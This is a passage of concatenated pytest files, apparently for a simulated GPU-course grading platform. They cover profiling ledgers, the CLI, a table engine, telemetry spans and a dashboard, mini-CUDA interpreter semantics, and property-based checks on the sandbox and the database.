    def test_loop_condition_charges_pin_to_loop_line(self):
        source = """
__global__ void count(int *out) {
  int i = threadIdx.x;
  int acc = 0;
  for (int k = 0; k < 8; k++) {
    acc += 1;
  }
  out[i] = acc;
}
int main() { return 0; }
"""
        ledger = assert_ledger_parity(
            source, "count", 1, 32, [np.zeros(32, np.int32)], [])
        # cond+step evaluations all land on the for line (5); the body
        # line (6) only carries its own statement charges
        assert ledger.counters(5).instructions > 0
        assert ledger.counters(6).instructions > 0
        assert ledger.counters(5).instructions > \
            ledger.counters(6).instructions


class TestLabLedgers:
    """Acceptance check: profiled lab solutions render a non-empty
    annotated listing, identically on every engine."""

    def _lab_ledger(self, slug, engine):
        lab = get_lab(slug)
        result = execute_lab_source(lab, lab.solution, lab.dataset(0),
                                    engine=engine, profile=True)
        assert result.passed
        assert isinstance(result.line_profile, LineProfile)
        return lab, result.line_profile

    def test_tiled_matmul_lab(self):
        lab, reference = self._lab_ledger("tiled-matmul", "ast")
        listing = render_annotated(lab.solution, reference)
        assert listing.strip()
        assert "instr" in listing
        for engine in ENGINES[1:]:
            _, ledger = self._lab_ledger("tiled-matmul", engine)
            assert ledger == reference, engine

    def test_image_equalization_lab(self):
        lab, reference = self._lab_ledger("image-equalization", "ast")
        # the histogram phase is atomic-heavy: charges must appear
        assert any(c.atomic_ops for c in reference.lines.values())
        listing = render_annotated(lab.solution, reference)
        assert listing.strip()
        for engine in ENGINES[1:]:
            _, ledger = self._lab_ledger("image-equalization", engine)
            assert ledger == reference, engine
