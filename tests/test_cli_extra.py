"""Remaining CLI paths and small odds-and-ends coverage."""

import pytest

from repro.cli import main
from repro.web.views import render_questions_view
from repro.labs import get_lab


class TestCliRemainder:
    def test_figure1_summary(self, capsys):
        assert main(["figure1"]) == 0
        out = capsys.readouterr().out
        assert "week" in out and "Thursday deadline" in out
        # ten weekly rows
        assert out.count("\n") >= 11

    def test_run_lab_all_datasets(self, capsys):
        assert main(["run-lab", "scatter-gather"]) == 0
        out = capsys.readouterr().out
        lab = get_lab("scatter-gather")
        assert out.count("PASS") == len(lab.dataset_sizes)

    def test_run_lab_openacc_extension(self, capsys):
        assert main(["run-lab", "openacc-vecadd", "--dataset", "0"]) == 0
        assert "PASS" in capsys.readouterr().out

    def test_unknown_lab_raises_keyerror(self):
        with pytest.raises(KeyError):
            main(["show-lab", "nope"])

    def test_module_entry_point_importable(self):
        import repro.__main__  # noqa: F401 - import must not execute main
        # (the module calls main() at import... it must be guarded)


class TestQuestionsView:
    def test_renders_questions_and_saved_answers(self):
        lab = get_lab("tiled-matmul")
        html = render_questions_view(lab, {0: "because barriers sync all"})
        assert "Q1." in html and "Q2." in html
        assert "because barriers sync all" in html

    def test_lab_without_questions(self):
        import dataclasses
        lab = dataclasses.replace(get_lab("vector-add"), questions=())
        html = render_questions_view(lab, {})
        assert "no questions" in html
