"""Table engine: CRUD, indexes, constraint enforcement."""

import pytest

from repro.db import (
    Column,
    ColumnType,
    DuplicateKeyError,
    NoSuchRowError,
    Schema,
    Table,
)


@pytest.fixture
def users():
    schema = Schema(columns=[
        Column("email", ColumnType.TEXT),
        Column("course", ColumnType.TEXT, default="HPP"),
        Column("points", ColumnType.INT, default=0),
    ], unique=[("email",)], indexes=[("course",)])
    return Table("users", schema)


class TestInsert:
    def test_assigns_sequential_ids(self, users):
        assert users.insert(email="a@x.com") == 1
        assert users.insert(email="b@x.com") == 2

    def test_unique_violation(self, users):
        users.insert(email="a@x.com")
        with pytest.raises(DuplicateKeyError):
            users.insert(email="a@x.com")

    def test_failed_insert_does_not_burn_state(self, users):
        users.insert(email="a@x.com")
        with pytest.raises(DuplicateKeyError):
            users.insert(email="a@x.com")
        # table still consistent, next insert fine
        assert users.insert(email="b@x.com") == 2
        assert len(users) == 2


class TestGetUpdateDelete:
    def test_get_returns_copy(self, users):
        row_id = users.insert(email="a@x.com")
        row = users.get(row_id)
        row["email"] = "evil@x.com"
        assert users.get(row_id)["email"] == "a@x.com"

    def test_get_missing_raises(self, users):
        with pytest.raises(NoSuchRowError):
            users.get(99)

    def test_update_partial(self, users):
        row_id = users.insert(email="a@x.com")
        users.update(row_id, points=10)
        assert users.get(row_id)["points"] == 10
        assert users.get(row_id)["email"] == "a@x.com"

    def test_update_missing_raises(self, users):
        with pytest.raises(NoSuchRowError):
            users.update(5, points=1)

    def test_update_unique_conflict(self, users):
        users.insert(email="a@x.com")
        b = users.insert(email="b@x.com")
        with pytest.raises(DuplicateKeyError):
            users.update(b, email="a@x.com")
        # failed update left the row intact
        assert users.get(b)["email"] == "b@x.com"

    def test_update_to_same_unique_value_is_fine(self, users):
        a = users.insert(email="a@x.com")
        users.update(a, email="a@x.com")

    def test_delete(self, users):
        row_id = users.insert(email="a@x.com")
        users.delete(row_id)
        assert not users.exists(row_id)
        # the unique slot is freed
        users.insert(email="a@x.com")

    def test_delete_missing_raises(self, users):
        with pytest.raises(NoSuchRowError):
            users.delete(1)


class TestFind:
    def test_find_uses_unique_index(self, users):
        for i in range(50):
            users.insert(email=f"u{i}@x.com", points=i)
        rows = users.find(email="u7@x.com")
        assert len(rows) == 1 and rows[0]["points"] == 7

    def test_find_secondary_index(self, users):
        users.insert(email="a@x.com", course="HPP")
        users.insert(email="b@x.com", course="408")
        users.insert(email="c@x.com", course="HPP")
        assert len(users.find(course="HPP")) == 2

    def test_find_index_respects_extra_conditions(self, users):
        users.insert(email="a@x.com", course="HPP", points=1)
        users.insert(email="b@x.com", course="HPP", points=5)
        rows = users.find(course="HPP", points__ge=3)
        assert [r["email"] for r in rows] == ["b@x.com"]

    def test_find_one(self, users):
        users.insert(email="a@x.com")
        assert users.find_one(email="a@x.com")["email"] == "a@x.com"
        assert users.find_one(email="zz@x.com") is None

    def test_index_maintained_after_update(self, users):
        a = users.insert(email="a@x.com", course="HPP")
        users.update(a, course="408")
        assert users.find(course="HPP") == []
        assert len(users.find(course="408")) == 1

    def test_index_maintained_after_delete(self, users):
        a = users.insert(email="a@x.com", course="HPP")
        users.delete(a)
        assert users.find(course="HPP") == []


class TestSnapshotRestore:
    def test_roundtrip(self, users):
        users.insert(email="a@x.com")
        users.insert(email="b@x.com")
        snap = users.snapshot()
        users.delete(1)
        users.restore(snap, next_id=3)
        assert len(users) == 2
        assert users.get(1)["email"] == "a@x.com"
        # index was rebuilt
        assert users.find(email="b@x.com")[0]["id"] == 2
