"""Telemetry threaded through the real pipeline: traces, stage
latency, fault spans, and the dashboard satellites."""

import numpy as np
import pytest

from repro.cluster import FaultInjector, ManualClock
from repro.core import WebGPU, WebGPU2
from repro.core.course import CourseOffering
from repro.labs import get_lab
from repro.simulate.metrics import HourlySeries
from repro.telemetry import STAGES, Telemetry, waterfall

VECADD = get_lab("vector-add")


def make_traced_platform(cls=WebGPU2, num_workers=2, **kwargs):
    clock = ManualClock()
    telemetry = Telemetry(clock=clock, tracing=True)
    platform = cls(clock=clock, num_workers=num_workers,
                   telemetry=telemetry, **kwargs)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015, deadlines={}),
        ["vector-add"])
    student = platform.users.register("stu@x.com", "Stu", "pw")
    course.enroll(student.user_id)
    platform.save_code("HPP-2015", student, "vector-add", VECADD.solution)
    return platform, clock, student


def spans_by_name(spans):
    out = {}
    for span in spans:
        out.setdefault(span.name, []).append(span)
    return out


class TestGradedAttemptTrace:
    def test_one_trace_covers_the_whole_pipeline(self):
        platform, clock, student = make_traced_platform()
        clock.advance(30)
        _, grade = platform.submit_for_grading("HPP-2015", student,
                                               "vector-add")
        assert grade.program_points > 0
        tracer = platform.telemetry.tracer
        assert len(tracer.trace_ids()) == 1
        spans = tracer.for_trace(tracer.trace_ids()[0])
        names = spans_by_name(spans)
        for required in ("submit", "enqueue", "queue.wait", "lease",
                         "container.acquire", "process", "compile",
                         "exec", "grade", "ack"):
            assert required in names, f"missing span {required!r}"
        assert len(names["exec"]) == len(VECADD.dataset_sizes)
        assert names["lease"][0].attrs["outcome"] == "acked"

    def test_timestamps_nest_monotonically(self):
        platform, clock, student = make_traced_platform()
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        tracer = platform.telemetry.tracer
        spans = tracer.for_trace(tracer.trace_ids()[0])
        assert all(s.finished for s in spans)
        for span in spans:
            assert span.end_time >= span.start
            if span.parent_id is not None:
                parent = tracer.find(span.parent_id)
                assert parent.start <= span.start
                assert span.end_time <= parent.end_time
        root = next(s for s in spans if s.parent_id is None)
        assert root.name == "submit"
        assert root.duration > 0.0
        # the process interval is tiled by compile then the exec spans
        process = next(s for s in spans if s.name == "process")
        compile_span = next(s for s in spans if s.name == "compile")
        execs = sorted((s for s in spans if s.name == "exec"),
                       key=lambda s: s.start)
        assert compile_span.end_time <= execs[0].start
        for left, right in zip(execs, execs[1:]):
            assert left.end_time <= right.start
        assert execs[-1].end_time <= process.end_time

    def test_waterfall_renders_the_attempt(self):
        platform, clock, student = make_traced_platform()
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        art = waterfall(platform.telemetry.tracer.spans)
        assert "submit" in art and "lease" in art and "exec" in art

    def test_v1_push_path_is_traced_too(self):
        platform, clock, student = make_traced_platform(WebGPU)
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        tracer = platform.telemetry.tracer
        spans = tracer.for_trace(tracer.trace_ids()[0])
        names = spans_by_name(spans)
        assert "submit" in names and "process" in names
        assert "grade" in names and "compile" in names

    def test_tracing_off_records_no_spans_but_metrics(self):
        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=2)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2015, deadlines={}),
            ["vector-add"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        assert platform.telemetry.tracer.spans == []
        metrics = platform.telemetry.metrics
        assert metrics.counter("webgpu_queue_events_total") \
                      .value(event="enqueued") == 1


class TestStageLatencyBreakdown:
    def test_dashboard_reports_percentiles_for_every_stage(self):
        platform, clock, student = make_traced_platform()
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        latency = platform.dashboard.latency_summary()
        assert set(STAGES) <= set(latency)
        for stage in STAGES:
            summary = latency[stage]
            for key in ("count", "p50", "p95", "p99", "mean"):
                assert key in summary
            assert summary["p50"] <= summary["p95"] <= summary["p99"]
            assert summary["count"] >= 1       # every stage observed
        assert latency["exec"]["count"] == len(VECADD.dataset_sizes)
        assert latency["compile"]["p50"] > 0.0

    def test_breakdown_slices_by_requirement_tag(self):
        platform, clock, student = make_traced_platform()
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        by_tag = platform.dashboard.latency_summary(by_tag=True)
        assert by_tag["exec"]["tags"]["untagged"]["count"] == \
            len(VECADD.dataset_sizes)

    def test_latency_block_in_rendered_dashboard(self):
        platform, clock, student = make_traced_platform()
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        text = platform.dashboard.render()
        assert "stage latency (p50/p95/p99, seconds):" in text
        for stage in STAGES:
            assert stage in text

    def test_empty_platform_reports_explicit_zeros(self):
        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=1)
        latency = platform.dashboard.latency_summary()
        for stage in STAGES:
            assert latency[stage]["count"] == 0
            assert latency[stage]["p99"] == 0.0


class TestFaultSpans:
    def test_crash_mid_job_yields_two_lease_spans_one_trace(self):
        platform, clock, student = make_traced_platform()
        FaultInjector().crash_mid_job(platform.drivers[0].worker)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        assert attempt.correct
        assert attempt.redeliveries == 1

        tracer = platform.telemetry.tracer
        assert len(tracer.trace_ids()) == 1
        spans = tracer.for_trace(tracer.trace_ids()[0])
        names = spans_by_name(spans)

        leases = sorted(names["lease"], key=lambda s: s.start)
        assert len(leases) == 2
        assert leases[0].attrs["outcome"] == "expired"
        assert leases[1].attrs["outcome"] == "acked"
        assert leases[0].attrs["consumer"] != leases[1].attrs["consumer"]
        expiry_events = [e for e in leases[0].events
                         if e.name == "lease.expired"]
        assert expiry_events and expiry_events[0].level == "warning"
        assert "redelivery" in names
        redelivery = names["redelivery"][0]
        # attrs carry the *failed* delivery attempt's number
        assert redelivery.attrs["attempt"] == 1
        assert redelivery.attrs["backoff_s"] > 0.0
        # the second delivery's spans stay inside the same trace
        assert len(names["process"]) == 1
        assert names["process"][0].attrs["worker"] == \
            platform.drivers[1].worker.name

    def test_dead_letter_parks_with_warning_event(self):
        platform, clock, student = make_traced_platform(num_workers=3)
        injector = FaultInjector()
        for driver in platform.drivers:
            injector.crash_mid_job(driver.worker)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        assert attempt.status == "failed"
        tracer = platform.telemetry.tracer
        spans = tracer.for_trace(tracer.trace_ids()[0])
        names = spans_by_name(spans)
        parked = names["dlq.parked"][0]
        assert parked.events[0].level == "warning"
        assert len(names["lease"]) == 3
        assert all(s.attrs["outcome"] == "expired" for s in names["lease"])
        root = next(s for s in spans if s.parent_id is None)
        assert root.attrs["status"] == "failed"


class TestHealthEvictionTelemetry:
    def test_v2_eviction_shows_in_trace_metrics_and_dashboard(self):
        platform, clock, student = make_traced_platform()
        platform.tick_health()
        victim = platform.worker_pool.workers[0]
        victim.drop_health_checks = True
        clock.advance(120)
        evicted = platform.tick_health()
        assert victim.name in evicted

        counter = platform.telemetry.metrics \
            .counter("webgpu_health_evictions_total")
        assert counter.value(worker=victim.name) == 1.0

        events = [s for s in platform.telemetry.tracer.spans
                  if s.name == "health.evicted"]
        assert len(events) == 1
        assert events[0].attrs["worker"] == victim.name
        assert events[0].events[0].level == "warning"

        # the evicted node no longer serves jobs; delivery gauges on the
        # dashboard stay coherent for the surviving fleet
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        assert attempt.correct
        delivery = platform.dashboard.delivery_summary()
        assert delivery["acked"] == 1
        assert delivery["in_flight"] == 0
        assert delivery["dead_lettered"] == 0


class TestDashboardWorkerSummaryGuards:
    def make_dashboard(self):
        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=1)
        return platform, platform.dashboard, platform.metrics.primary

    def test_payload_none_rows_counted_as_malformed(self):
        platform, dashboard, db = self.make_dashboard()
        db.insert("worker_metrics", worker="ghost", timestamp=0.0,
                  event="job", payload=None)
        summary = dashboard.worker_summary()
        ghost = summary["ghost"]
        assert ghost["malformed"] == 1
        assert ghost["jobs"] == 0
        assert ghost["correct_rate"] == 0.0
        assert ghost["cache_hit_rate"] == 0.0
        assert ghost["mean_service_s"] == 0.0
        assert ghost["mean_queue_wait_s"] == 0.0

    def test_mixed_rows_skip_malformed_but_keep_real_ones(self):
        platform, dashboard, db = self.make_dashboard()
        db.insert("worker_metrics", worker="w", timestamp=0.0,
                  event="job", payload=None)
        db.insert("worker_metrics", worker="w", timestamp=1.0,
                  event="job",
                  payload={"correct": True, "cache_hit": False,
                           "service_s": 2.0, "queue_wait_s": 4.0})
        entry = dashboard.worker_summary()["w"]
        assert entry["malformed"] == 1
        assert entry["jobs"] == 1
        assert entry["correct_rate"] == 1.0
        assert entry["mean_service_s"] == 2.0
        assert entry["mean_queue_wait_s"] == 4.0

    def test_snapshot_and_render_survive_malformed_rows(self):
        platform, dashboard, db = self.make_dashboard()
        db.insert("worker_metrics", worker="ghost", timestamp=0.0,
                  event="job", payload=None)
        snap = dashboard.snapshot()
        assert snap["workers"]["ghost"]["malformed"] == 1
        assert "ghost" in dashboard.render()


class TestHourlySeriesPartialBuckets:
    def test_daily_max_truncates_by_default(self):
        series = HourlySeries(30)           # one full day + 6 hours
        series.add(3, 5)
        series.add(27, 9)                   # in the partial tail
        assert list(series.daily_max()) == [5]
        assert list(series.daily_max(partial=True)) == [5, 9]

    def test_daily_max_exact_multiple_unaffected(self):
        series = HourlySeries(48)
        series.add(0, 1)
        series.add(47, 2)
        assert list(series.daily_max()) == [1, 2]
        assert list(series.daily_max(partial=True)) == [1, 2]

    def test_weekly_totals_partial_bucket(self):
        series = HourlySeries(168 + 12)
        for hour in range(168):
            series.add(hour, 1)
        series.add(168 + 3, 7)
        assert list(series.weekly_totals()) == [168]
        assert list(series.weekly_totals(partial=True)) == [168, 7]

    def test_weekly_totals_shorter_than_a_week(self):
        series = HourlySeries(10)
        series.add(2, 4)
        assert list(series.weekly_totals()) == []
        assert list(series.weekly_totals(partial=True)) == [4]

    def test_partial_preserves_dtype_and_sum(self):
        series = HourlySeries(30, counts=np.arange(30, dtype=np.int64))
        totals = series.weekly_totals(partial=True)
        assert totals.sum() == series.counts.sum()   # no hour dropped


class TestKernelEngineMetrics:
    def test_kernel_launch_records_wall_and_counters(self):
        platform, clock, student = make_traced_platform(num_workers=1)
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        metrics = platform.telemetry.metrics
        wall = metrics.get("webgpu_kernel_wall_seconds")
        assert wall is not None
        kernels = wall.label_values("kernel")
        assert kernels, "no kernel launches recorded"
        merged = wall.merged()
        assert merged.count >= len(VECADD.dataset_sizes)
        assert merged.sum > 0.0
        launches = metrics.counter("webgpu_kernel_launches_total")
        assert launches.total() == merged.count
        counters = metrics.counter("webgpu_kernel_counters_total")
        assert any(k == "instructions" for k in
                   (dict(key).get("counter")
                    for key in counters._series))
