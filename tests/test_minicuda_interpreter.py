"""Interpreter semantics: C arithmetic, control flow, device execution."""

import numpy as np
import pytest

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.errors import BarrierDivergenceError, OutOfBoundsError
from repro.minicuda import ENGINES, HostEnv, compile_source
from repro.minicuda.interpreter import KernelHang, _c_div, _c_mod
from repro.minicuda.values import MemoryFault


def run_main(source, datasets=None, max_steps=50_000_000):
    program = compile_source(source)
    env = HostEnv(datasets=datasets or {})
    result = program.run_main(host_env=env, max_steps=max_steps)
    return result, env


def host_eval(expr_src, decls="", datasets=None):
    """Run main() returning the int value of one expression."""
    source = f"""
int main() {{
  {decls}
  return {expr_src};
}}
"""
    result, _ = run_main(source, datasets)
    return result.exit_code


class TestCSemantics:
    def test_integer_division_truncates_toward_zero(self):
        assert _c_div(7, 2) == 3
        assert _c_div(-7, 2) == -3
        assert _c_div(7, -2) == -3

    def test_modulo_sign_follows_dividend(self):
        assert _c_mod(-7, 2) == -1
        assert _c_mod(7, -2) == 1

    def test_division_by_zero_faults(self):
        with pytest.raises(MemoryFault):
            _c_div(1, 0)

    def test_int_div_in_program(self):
        assert host_eval("(-7) / 2 + 10") == 7  # -3 + 10

    def test_float_to_int_coercion_on_declared_type(self):
        assert host_eval("x", decls="int x = 2.9;") == 2

    def test_float_declared_variables_round_to_f32(self):
        # 0.1f is not exactly 0.1; double comparison shows the rounding
        source = """
int main() {
  float x = 0.1;
  double y = 0.1;
  if (x == y) { return 1; }
  return 0;
}
"""
        result, _ = run_main(source)
        assert result.exit_code == 0

    def test_short_circuit_and(self):
        # right side would divide by zero if evaluated
        assert host_eval("(0 && (1 / 0)) + 5") == 5

    def test_short_circuit_or(self):
        assert host_eval("(1 || (1 / 0)) + 5") == 6

    def test_ternary(self):
        assert host_eval("3 > 2 ? 10 : 20") == 10

    def test_prefix_vs_postfix_increment(self):
        assert host_eval("i++ + i", decls="int i = 1;") == 3  # 1 + 2
        assert host_eval("++i + i", decls="int i = 1;") == 4  # 2 + 2

    def test_compound_assignment(self):
        assert host_eval("x", decls="int x = 4; x *= 3; x -= 2;") == 10

    def test_sizeof_values(self):
        assert host_eval("sizeof(float)") == 4
        assert host_eval("sizeof(double)") == 8
        assert host_eval("sizeof(float *)") == 8

    def test_bitwise_and_shifts(self):
        assert host_eval("(5 & 3) | (1 << 4)") == 17

    def test_while_and_break_continue(self):
        code = """
int s = 0;
for (int i = 0; i < 10; i++) {
  if (i == 3) continue;
  if (i == 6) break;
  s += i;
}
"""
        assert host_eval("s", decls=code) == 0 + 1 + 2 + 4 + 5

    def test_do_while_runs_once(self):
        assert host_eval("n", decls="int n = 0; do { n++; } while (0);") == 1

    def test_local_array_and_init_list(self):
        assert host_eval("a[0] + a[2]", decls="int a[3] = {5, 6, 7};") == 12

    def test_local_array_out_of_bounds_faults(self):
        with pytest.raises(MemoryFault):
            host_eval("a[5]", decls="int a[3];")

    def test_user_host_function_call(self):
        source = """
int twice(int x) { return 2 * x; }
int main() { return twice(21); }
"""
        result, _ = run_main(source)
        assert result.exit_code == 42

    def test_recursion(self):
        source = """
int fact(int n) { return n <= 1 ? 1 : n * fact(n - 1); }
int main() { return fact(5); }
"""
        result, _ = run_main(source)
        assert result.exit_code == 120

    def test_infinite_loop_caught(self):
        with pytest.raises(KernelHang):
            run_main("int main() { while (1) {} return 0; }",
                     max_steps=10_000)


class TestDeviceExecution:
    @pytest.fixture(autouse=True, params=ENGINES)
    def _engine(self, request, monkeypatch):
        """Every device-execution test runs under both kernel engines."""
        monkeypatch.setenv("WEBGPU_KERNEL_ENGINE", request.param)

    def test_device_function_call_from_kernel(self):
        source = """
__device__ float square(float x) { return x * x; }

__global__ void k(float *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = square((float)i);
}

int main() { return 0; }
"""
        program = compile_source(source)
        rt = GpuRuntime(Device())
        out = rt.malloc(8, "float")
        program.launch(rt, "k", 1, 8, out.ptr(), 8)
        assert list(rt.memcpy_dtoh(out)) == [float(i * i) for i in range(8)]

    def test_host_deref_of_device_pointer_segfaults(self):
        source = """
int main() {
  float *d;
  cudaMalloc((void **)&d, 4 * sizeof(float));
  float x = d[0];
  return 0;
}
"""
        with pytest.raises(MemoryFault, match="segmentation fault"):
            run_main(source)

    def test_kernel_deref_of_host_pointer_faults(self):
        source = """
__global__ void k(float *p) { p[0] = 1.0f; }
int main() {
  float *h = (float *)malloc(4);
  k<<<1, 1>>>(h);
  return 0;
}
"""
        with pytest.raises(MemoryFault, match="host pointer"):
            run_main(source)

    def test_kernel_write_to_constant_memory_faults(self):
        source = """
__constant__ float M[4];
__global__ void k() { M[0] = 1.0f; }
int main() { k<<<1, 1>>>(); return 0; }
"""
        with pytest.raises(Exception, match="read-only"):
            run_main(source)

    def test_warp_size_builtin(self):
        source = """
__global__ void k(int *out) { out[0] = warpSize; }
int main() {
  int *d;
  int h[1];
  cudaMalloc((void **)&d, sizeof(int));
  k<<<1, 1>>>(d);
  int *hp = h;
  cudaMemcpy(hp, d, sizeof(int), cudaMemcpyDeviceToHost);
  return h[0];
}
"""
        result, _ = run_main(source)
        assert result.exit_code == 32

    def test_grid_stride_loop(self):
        source = """
__global__ void fill(float *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  int stride = blockDim.x * gridDim.x;
  while (i < n) {
    out[i] = 1.0f;
    i += stride;
  }
}
int main() { return 0; }
"""
        program = compile_source(source)
        rt = GpuRuntime(Device())
        out = rt.malloc(100, "float")
        program.launch(rt, "fill", 2, 16, out.ptr(), 100)
        assert rt.memcpy_dtoh(out).sum() == 100.0

    def test_bad_launch_dim_reported(self):
        source = """
__global__ void k() {}
int main() { k<<<0, 32>>>(); return 0; }
"""
        with pytest.raises(Exception, match="must be >= 1"):
            run_main(source)

    def test_device_printf(self):
        source = """
__global__ void k() {
  if (threadIdx.x == 0) printf("block %d checking in", blockIdx.x);
}
int main() { k<<<2, 4>>>(); return 0; }
"""
        program = compile_source(source)
        rt = GpuRuntime(Device())
        lines = []
        rt.io_hook = lines.append
        env = HostEnv()
        program.run_main(runtime=rt, host_env=env)
        assert lines == ["block 0 checking in", "block 1 checking in"]


class TestEngineErrorPaths:
    """Fault behaviour must be engine-independent: same exception type
    and message whichever engine executed the kernel."""

    @pytest.fixture(params=ENGINES)
    def engine(self, request):
        return request.param

    def test_device_read_out_of_bounds_faults(self, engine):
        source = """
__global__ void k(float *p, int n) { float x = p[n + 7]; }
int main() {
  float *d;
  cudaMalloc((void **)&d, 4 * sizeof(float));
  k<<<1, 1>>>(d, 4);
  return 0;
}
"""
        program = compile_source(source)
        with pytest.raises(OutOfBoundsError, match="out of bounds"):
            program.run_main(host_env=HostEnv(), engine=engine)

    def test_local_array_out_of_bounds_faults(self, engine):
        source = """
__global__ void k(int *out) {
  int scratch[4];
  out[0] = scratch[9];
}
int main() {
  int *d;
  cudaMalloc((void **)&d, sizeof(int));
  k<<<1, 1>>>(d);
  return 0;
}
"""
        program = compile_source(source)
        with pytest.raises(MemoryFault,
                           match=r"out of bounds for local array scratch"):
            program.run_main(host_env=HostEnv(), engine=engine)

    def test_infinite_kernel_loop_hangs(self, engine):
        source = """
__global__ void spin(int *out) {
  int i = 0;
  while (1) { i = i + 1; }
  out[0] = i;
}
int main() {
  int *d;
  cudaMalloc((void **)&d, sizeof(int));
  spin<<<1, 1>>>(d);
  return 0;
}
"""
        program = compile_source(source)
        with pytest.raises(KernelHang, match="step budget exhausted"):
            program.run_main(host_env=HostEnv(), max_steps=50_000,
                             engine=engine)

    def test_infinite_for_loop_hangs(self, engine):
        source = """
__global__ void spin() { for (;;) {} }
int main() { spin<<<1, 1>>>(); return 0; }
"""
        program = compile_source(source)
        with pytest.raises(KernelHang, match="step budget exhausted"):
            program.run_main(host_env=HostEnv(), max_steps=50_000,
                             engine=engine)

    def test_barrier_divergence_detected(self, engine):
        source = """
__global__ void diverge(int *out) {
  if (threadIdx.x < 16) { __syncthreads(); }
  out[threadIdx.x] = 1;
}
int main() {
  int *d;
  cudaMalloc((void **)&d, 32 * sizeof(int));
  diverge<<<1, 32>>>(d);
  return 0;
}
"""
        program = compile_source(source)
        with pytest.raises(BarrierDivergenceError, match="exited the kernel"):
            program.run_main(host_env=HostEnv(), engine=engine)

    def test_atomic_on_host_memory_faults(self, engine):
        source = """
__global__ void k(float *p) { atomicAdd(&p[0], 1.0f); }
int main() {
  float *h = (float *)malloc(4);
  k<<<1, 1>>>(h);
  return 0;
}
"""
        program = compile_source(source)
        with pytest.raises(MemoryFault,
                           match="atomics require device or shared memory"):
            program.run_main(host_env=HostEnv(), engine=engine)

    def test_unknown_engine_rejected(self):
        source = "int main() { return 0; }"
        program = compile_source(source)
        with pytest.raises(Exception, match="unknown kernel engine"):
            program.run_main(host_env=HostEnv(), engine="jit")
