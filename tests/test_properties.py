"""Property-based tests (hypothesis) on core invariants."""

import math

import numpy as np
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from repro.db import Column, ColumnType, Query, Schema, Table, asc, desc
from repro.minicuda.interpreter import _c_div, _c_mod, c_format
from repro.minicuda.preprocessor import preprocess
from repro.sandbox import BlacklistScanner, SubmissionRateLimiter
from repro.sandbox.blacklist import strip_comments_and_strings
from repro.wb.comparison import compare_solution
from repro.web.markdown import render_markdown

ints = st.integers(min_value=-10**9, max_value=10**9)


class TestCSemanticsProperties:
    @given(ints, ints)
    def test_div_mod_identity(self, a, b):
        """C guarantees (a/b)*b + a%b == a."""
        assume(b != 0)
        assert _c_div(a, b) * b + _c_mod(a, b) == a

    @given(ints, ints)
    def test_div_truncates_toward_zero(self, a, b):
        assume(b != 0)
        q = _c_div(a, b)
        assert abs(q) == abs(a) // abs(b)

    @given(ints, ints)
    def test_mod_sign_matches_dividend(self, a, b):
        assume(b != 0 and a % b != 0)
        r = _c_mod(a, b)
        if r != 0:
            assert (r > 0) == (a > 0)


class TestTableProperties:
    @given(st.lists(st.text(alphabet="abcdef", min_size=1, max_size=6),
                    min_size=1, max_size=30))
    @settings(max_examples=50)
    def test_unique_index_admits_exactly_distinct_values(self, emails):
        table = Table("t", Schema(
            columns=[Column("email", ColumnType.TEXT)],
            unique=[("email",)]))
        inserted = 0
        for email in emails:
            try:
                table.insert(email=email)
                inserted += 1
            except Exception:
                pass
        assert inserted == len(set(emails))
        assert len(table) == inserted

    @given(st.lists(st.integers(0, 100), min_size=0, max_size=40),
           st.integers(0, 10), st.integers(0, 10))
    @settings(max_examples=50)
    def test_query_pagination_partitions(self, points, offset, limit):
        rows = [{"p": p} for p in points]
        page = Query(rows).order_by(asc("p")).offset(offset).limit(limit).all()
        expected = sorted(points)[offset:offset + limit]
        assert [r["p"] for r in page] == expected

    @given(st.lists(st.tuples(st.integers(0, 5), st.integers(0, 5)),
                    min_size=0, max_size=30))
    @settings(max_examples=50)
    def test_multi_key_sort_is_total_and_stable(self, pairs):
        rows = [{"a": a, "b": b, "i": i} for i, (a, b) in enumerate(pairs)]
        out = Query(rows).order_by(desc("a"), asc("b")).all()
        keys = [(-r["a"], r["b"]) for r in out]
        assert keys == sorted(keys)


class TestSandboxProperties:
    @given(st.text(alphabet=st.characters(
        blacklist_categories=("Cs",)), max_size=300))
    @settings(max_examples=100)
    def test_stripper_preserves_line_count(self, text):
        try:
            out = strip_comments_and_strings(text)
        except Exception:
            return  # unterminated block comments raise; that's allowed
        assert out.count("\n") == text.count("\n")

    @given(st.text(alphabet="abc ;(){}\n", max_size=200))
    @settings(max_examples=100)
    def test_scanner_never_flags_clean_alphabet(self, code):
        assert BlacklistScanner().scan(code) == []

    @given(st.lists(st.floats(min_value=0.0, max_value=3600.0),
                    min_size=1, max_size=40))
    @settings(max_examples=50)
    def test_rate_limiter_never_exceeds_long_run_rate(self, gaps):
        limiter = SubmissionRateLimiter(rate_per_minute=6, burst=3)
        now = 0.0
        allowed = 0
        for gap in gaps:
            now += gap
            if limiter.try_submit("u", now):
                allowed += 1
        # bound: burst + rate * horizon
        assert allowed <= 3 + math.ceil(now * 6 / 60.0) + 1


class TestPreprocessorProperties:
    @given(st.text(alphabet="abcxyz =+;\n", max_size=200))
    @settings(max_examples=50)
    def test_no_directives_means_identity_modulo_whitespace(self, source):
